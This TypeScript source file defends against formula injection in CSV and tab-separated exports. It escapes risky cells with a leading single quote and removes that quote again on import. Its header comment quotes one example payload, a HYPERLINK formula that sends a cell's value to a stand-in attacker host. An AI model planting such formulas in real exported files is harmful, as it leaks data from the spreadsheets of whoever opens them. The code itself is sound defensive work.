/**
 * Formula injection in delimited exports (CSV, tab-separated TXT), shared by every package that
 * writes one (bank exports, the admin order export). A spreadsheet that opens such a file turns a
 * cell beginning with `=`, `+`, `-`, `@`, TAB or CR into a formula, so a value like
 * `=HYPERLINK("http://evil.example?"&A1,"click")` written by one user runs in the spreadsheet of
 * whoever exports it. As OWASP describes, such a cell is written with a leading single quote
 * (`'=HYPERLINK(...)`), which spreadsheets show as text; writers keep the field quoted.
 * A lone `-` and plain signed numbers are left alone: they cannot hold a formula.
 *
 * Importers take the quote off again (`restoreFormula`), so an export re-imports to the same
 * values. To make that exact, a value that already begins with quotes before such a character
 * gets one more quote on export, and loses one on import: `'=x` <-> `''=x`.
 */

/** A cell a spreadsheet would evaluate: a formula character first, or after quotes we added. */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** A cell as neutralizeFormula writes it (writers quote these fields too). */
export const NEUTRALIZED_CELL = /^'+[=+\-@\t\r]/;

/** A lone dash and signed numbers (`-`, `-5`, `+86`): no formula can hide in them, so they stay as typed. */
const HARMLESS = /^(?:-|[+-]?\d+(?:\.\d+)?)$/;

/** The cell as it is safe to write: a leading `'` when a spreadsheet would take it as a formula. */
export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) && !HARMLESS.test(value) ? `'${value}` : value;
}

/** The value a neutralized cell stood for: one leading `'` taken off. */
export function restoreFormula(cell: string): string {
  return NEUTRALIZED_CELL.test(cell) ? cell.slice(1) : cell;
}
